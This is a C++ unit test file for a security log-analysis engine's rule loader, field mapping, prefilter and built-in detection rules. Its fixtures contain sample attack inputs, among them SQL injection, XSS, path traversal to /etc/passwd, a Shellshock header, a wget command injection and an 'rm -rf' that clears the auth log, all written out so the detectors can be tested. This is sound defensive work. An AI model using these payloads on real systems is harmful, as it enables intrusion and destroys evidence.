// Rule loading (YAML, line-numbered rejections), field mapping, routing, prefilter and
// the built-in rule pack.
#include <algorithm>
#include <filesystem>
#include <set>

#include <gtest/gtest.h>

#include "security/field_map.hpp"
#include "security/prefilter.hpp"
#include "security_test_util.hpp"

namespace sysgrok::security::test {
namespace {

TEST(SecurityLoader, MultiDocumentAndRejectionLines) {
    loaded_rules lr;
    load_rules_text(rule_yaml("    s:\n        f: 1\n    condition: s\n") + "---\n" +
                        "title: bad\nlogsource:\n    product: linux\ndetection:\n"
                        "    s:\n        f|nosuch: 1\n    condition: s\n---\n"
                        "logsource:\n    product: linux\n",
                    "f.yml", lr);
    EXPECT_EQ(lr.detections.size(), 1U);
    ASSERT_EQ(lr.rejected.size(), 2U);
    EXPECT_EQ(lr.rejected[0].line, 17U);
    EXPECT_NE(lr.rejected[0].reason.find("unknown modifier 'nosuch'"), std::string::npos);
    EXPECT_EQ(lr.rejected[0].title, "bad");
    EXPECT_EQ(lr.rejected[1].line, 20U);
    EXPECT_NE(lr.rejected[1].reason.find("title"), std::string::npos);
}

TEST(SecurityLoader, YamlSyntaxErrorHasLine) {
    loaded_rules lr;
    load_rules_text("title: a\ndetection:\n  s: [unclosed\n", "f.yml", lr);
    ASSERT_EQ(lr.rejected.size(), 1U);
    EXPECT_GT(lr.rejected[0].line, 0U);
    EXPECT_NE(lr.rejected[0].reason.find("YAML"), std::string::npos);
}

TEST(SecurityLoader, MissingPartsAndLegacyFormsAreRejected) {
    EXPECT_EQ(rejections("title: a\nlogsource:\n    product: linux\n").size(), 1U);
    EXPECT_EQ(rejections(rule_yaml("    s:\n        f: 1\n")).size(), 1U); // no condition
    EXPECT_EQ(rejections("title: f\nfilter:\n    rules: []\n").size(), 1U);
    EXPECT_EQ(rejections("action: global\ntitle: g\n").size(), 1U);
    EXPECT_EQ(
        rejections(rule_yaml("    s:\n        f:\n            a: 1\n    condition: s\n")).size(),
        1U);
}

TEST(SecurityFieldMap, WebserverNames) {
    batch_builder b;
    b.web("10.0.0.1", "GET", "/index.php?id=1%20union%20select", "404", "sqlmap/1.7");
    const auto& batch = b.batch();
    event_view v;
    const uint32_t traits = event_traits(batch, batch.events[0]);
    EXPECT_EQ(traits, static_cast<uint32_t>(trait_webserver));
    v.reset(batch, batch.events[0], traits);
    EXPECT_EQ(v.get(resolve_field("c-ip")).value_or("<absent>"), "10.0.0.1");
    EXPECT_EQ(v.get(resolve_field("cs-method")).value_or("<absent>"), "GET");
    EXPECT_EQ(v.get(resolve_field("cs-uri-query")).value_or("<absent>"),
              "/index.php?id=1%20union%20select");
    EXPECT_EQ(v.get(resolve_field("cs-uri-stem")).value_or("<absent>"), "/index.php");
    EXPECT_EQ(v.get(resolve_field("sc-status")).value_or("<absent>"), "404");
    EXPECT_EQ(v.get(resolve_field("cs-user-agent")).value_or("<absent>"), "sqlmap/1.7");
    EXPECT_FALSE(v.get(resolve_field("cs-referer")));
}

TEST(SecurityFieldMap, AuditdKeyValuesAndExecve) {
    batch_builder b;
    b.add("type=EXECVE msg=audit(1610903553.730:591): argc=3 a0=\"bash\" a1=\"-c\" "
          "a2=6563686F206869",
          {}, 0, "");
    b.add("type=SYSCALL msg=audit(1.2:3): arch=c000003e syscall=59 exe=\"/usr/bin/nc\" "
          "key=\"susp\"",
          {{"auditd.data.comm", "nc"}}, 0, "");
    const auto& batch = b.batch();
    event_view v;
    uint32_t t = event_traits(batch, batch.events[0]);
    EXPECT_NE(t & trait_auditd, 0U);
    EXPECT_NE(t & trait_process_creation, 0U);
    v.reset(batch, batch.events[0], t);
    EXPECT_EQ(v.get(resolve_field("type")).value_or("<absent>"), "EXECVE");
    EXPECT_EQ(v.get(resolve_field("a0")).value_or("<absent>"), "bash");
    EXPECT_EQ(v.get(resolve_field("a2")).value_or("<absent>"), "echo hi"); // hex-decoded
    EXPECT_EQ(v.get(resolve_field("CommandLine")).value_or("<absent>"), "bash -c echo hi");
    EXPECT_NE(v.haystack().find("echo hi"), std::string_view::npos);
    t = event_traits(batch, batch.events[1]);
    v.reset(batch, batch.events[1], t);
    EXPECT_EQ(v.get(resolve_field("exe")).value_or("<absent>"), "/usr/bin/nc");
    EXPECT_EQ(v.get(resolve_field("Image")).value_or("<absent>"), "/usr/bin/nc");
    EXPECT_EQ(v.get(resolve_field("key")).value_or("<absent>"), "susp");
    EXPECT_EQ(v.get(resolve_field("comm")).value_or("<absent>"), "nc"); // auditd.data.comm
    EXPECT_EQ(v.get(resolve_field("syscall")).value_or("<absent>"), "59");
}

TEST(SecurityFieldMap, SshdAndSudoEntitiesFromTheMessage) {
    batch_builder b;
    b.add("Dec 10 sshd[1]: Failed password for invalid user admin from 1.2.3.4 port 22 ssh2", {}, 0,
          "sshd", "Failed password for invalid user admin from 1.2.3.4 port 22 ssh2");
    b.add("Feb 24 00:13:02 h sudo:      tsg : user NOT in sudoers ; TTY=pts/1 ; USER=root ; "
          "COMMAND=/bin/ls -la",
          {}, 0, "sudo",
          "     tsg : user NOT in sudoers ; TTY=pts/1 ; USER=root ; "
          "COMMAND=/bin/ls -la");
    b.add("x", {{"source.ip", "9.9.9.9"}}, 0, "sshd", "Accepted password for a from 1.1.1.1");
    const auto& batch = b.batch();
    event_view v;
    v.reset(batch, batch.events[0], event_traits(batch, batch.events[0]));
    EXPECT_EQ(v.get(resolve_field("source.ip")).value_or("<absent>"), "1.2.3.4");
    EXPECT_EQ(v.get(resolve_field("user.name")).value_or("<absent>"), "admin");
    v.reset(batch, batch.events[1], event_traits(batch, batch.events[1]));
    EXPECT_EQ(v.get(resolve_field("user.name")).value_or("<absent>"), "tsg");
    EXPECT_EQ(v.get(resolve_field("USER")).value_or("<absent>"), "root");
    EXPECT_EQ(v.get(resolve_field("CommandLine")).value_or("<absent>"), "/bin/ls -la");
    v.reset(batch, batch.events[2], event_traits(batch, batch.events[2]));
    EXPECT_EQ(v.get(resolve_field("source.ip")).value_or("<absent>"),
              "9.9.9.9"); // parser fields win
}

TEST(SecurityRouting, LogsourceSelectsEvents) {
    EXPECT_EQ(logsource_traits({"linux", "", "sshd"}), trait_linux | trait_sshd);
    EXPECT_EQ(logsource_traits({"", "webserver", ""}), static_cast<uint32_t>(trait_webserver));
    EXPECT_NE(logsource_traits({"windows", "", "security"}) & trait_never, 0U);
    auto rs = compile(rule_yaml("    k:\n        - 'Failed password'\n    condition: k\n",
                                "    service: sshd\n"));
    batch_builder b;
    b.add("Failed password for root", {}, 0, "sshd");
    b.add("Failed password for root", {}, 0, "cron");
    b.web("1.1.1.1", "GET", "/Failed%20password", "200");
    b.add("Failed password for root", {}, 0, "sshd");
    EXPECT_EQ(run(*rs, b.batch(), true).size(), 2U);
    EXPECT_EQ(run(*rs, b.batch(), false).size(), 3U); // keyword in the raw line of all but web
}

TEST(SecurityPrefilter, AhoCorasickFindsOverlappingLiterals) {
    literal_prefilter p;
    const uint32_t he = p.add("he");
    const uint32_t she = p.add("she");
    const uint32_t hers = p.add("hers");
    const uint32_t his = p.add("his");
    EXPECT_EQ(p.add("she"), she);
    p.build();
    std::set<uint32_t> hit;
    p.scan("ushers", [&](uint32_t id) { hit.insert(id); });
    EXPECT_EQ(hit, (std::set<uint32_t>{he, she, hers}));
    hit.clear();
    p.scan("xyz", [&](uint32_t id) { hit.insert(id); });
    EXPECT_TRUE(hit.empty());
    (void)his;
}

TEST(SecurityPrefilter, DoesNotChangeResults) {
    // Rules with and without usable literals; the prefilter must only skip non-matches.
    auto rs =
        compile(rule_yaml("    a:\n        f|contains: 'abc'\n    b:\n        g|re: 'x+y'\n"
                          "    c:\n        - 'kw*rd'\n    condition: (a and not c) or b or c\n"));
    ASSERT_FALSE(rs->detections()[0].no_prefilter == false);
    auto rs2 = compile(rule_yaml("    a:\n        f|contains: 'abc'\n    c:\n        - 'kw*rd'\n"
                                 "    condition: a or c\n"));
    ASSERT_FALSE(rs2->detections()[0].no_prefilter);
    batch_builder b;
    b.add("kwXrd", {{"f", "zzz"}});
    b.add("nothing", {{"f", "xxABCxx"}});
    b.add("nothing", {{"f", "zzz"}, {"g", "xxy"}});
    b.add("nothing", {{"f", "zzz"}});
    EXPECT_EQ(run(*rs, b.batch()).size(), 3U);
    EXPECT_EQ(run(*rs2, b.batch()).size(), 2U);
}

TEST(SecurityBuiltinPack, LoadsCompletelyWithTagsLevelsAndFalsePositives) {
    const std::filesystem::path dir = std::filesystem::path(SYSGROK_TEST_DATA) / "../rules";
    auto rs = rule_set::load({dir.string()});
    ASSERT_TRUE(rs);
    for (const auto& r : (*rs)->rejected()) {
        ADD_FAILURE() << r.path << ":" << r.line << ": " << r.reason;
    }
    EXPECT_GE((*rs)->loaded(), 25U);
    auto check = [](const rule_meta& m) {
        EXPECT_FALSE(m.level.empty()) << m.title;
        EXPECT_FALSE(m.id.empty()) << m.title;
        EXPECT_FALSE(m.name.empty()) << m.title;
    };
    for (const auto& d : (*rs)->detections()) {
        check(d.meta);
        EXPECT_FALSE(d.meta.falsepositives.empty()) << d.meta.title;
        EXPECT_TRUE(std::any_of(d.meta.tags.begin(), d.meta.tags.end(), [](const std::string& t) {
            return t.starts_with("attack.");
        })) << d.meta.title;
    }
    for (size_t i = 0; i < (*rs)->correlations().size(); ++i) {
        const auto& c = (*rs)->correlations()[i];
        check(c.meta);
        EXPECT_FALSE(c.meta.tags.empty()) << c.meta.title;
    }
}

TEST(SecurityBuiltinPack, DetectsTheIssueScenarios) {
    const std::filesystem::path dir = std::filesystem::path(SYSGROK_TEST_DATA) / "../rules";
    auto rs = rule_set::load({dir.string()});
    ASSERT_TRUE(rs);
    batch_builder b;
    int64_t t = 0;
    for (int i = 0; i < 6; ++i) {
        const std::string msg =
            "Failed password for user" + std::to_string(i) + " from 5.5.5.5 port 22 ssh2";
        b.add("sshd: " + msg, {}, t++, "sshd", msg);
    }
    b.add("sshd: Accepted password for root from 5.5.5.5 port 22 ssh2", {}, t++, "sshd",
          "Accepted password for root from 5.5.5.5 port 22 ssh2");
    b.add("sudo: tsg : user NOT in sudoers ; TTY=pts/1 ; USER=root ; COMMAND=/bin/ls", {}, t++,
          "sudo", "tsg : user NOT in sudoers ; TTY=pts/1 ; USER=root ; COMMAND=/bin/ls");
    b.add("useradd[1]: new user: name=evil, UID=0, GID=0", {}, t++, "useradd",
          "new user: name=evil, UID=0, GID=0");
    b.add("usermod[2]: add 'evil' to group 'sudo'", {}, t++, "usermod",
          "add 'evil' to group 'sudo'");
    b.add("crontab[3]: (root) REPLACE (root)", {}, t++, "crontab", "(root) REPLACE (root)");
    b.add("sudo: a : COMMAND=/usr/bin/rm -rf /var/log/auth.log", {}, t++, "sudo",
          "a : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/rm -rf /var/log/auth.log");
    b.web("6.6.6.6", "GET", "/q?id=1%20UNION%20SELECT%20pass", "200", "Mozilla", t);
    b.web("6.6.6.6", "GET", "/q?x=<script>alert(1)</script>", "200", "Mozilla", t);
    b.web("6.6.6.6", "GET", "/../../etc/passwd", "400", "Mozilla", t);
    b.web("6.6.6.6", "GET", "/cgi-bin/x", "200", "() { :; }; /bin/bash -c id", t);
    b.web("6.6.6.6", "GET", "/x?c=;wget%20http://e/x", "200", "Mozilla", t);
    b.web("6.6.6.6", "GET", "/", "200", "sqlmap/1.7", t);
    for (int i = 0; i < 20; ++i) {
        b.web("7.7.7.7", "GET", "/probe" + std::to_string(i), "404", "Mozilla", t + i);
    }
    engine_state st(**rs);
    std::vector<finding> fs;
    st.process(b.batch(), fs);
    std::set<std::string> names;
    for (const auto& f : fs) {
        names.insert(f.rule_name);
    }
    for (const std::string n :
         {"ssh_password_spraying", "ssh_success_after_failures", "ssh_root_login",
          "sudo_not_in_sudoers", "account_created_uid0", "new_account_then_privilege",
          "crontab_modified", "log_clearing", "web_sql_injection", "web_xss", "web_path_traversal",
          "web_shellshock", "web_command_injection", "web_scanner_user_agent", "web_404_burst"}) {
        EXPECT_EQ(names.count(n), 1U) << n;
    }
}

} // namespace
} // namespace sysgrok::security::test
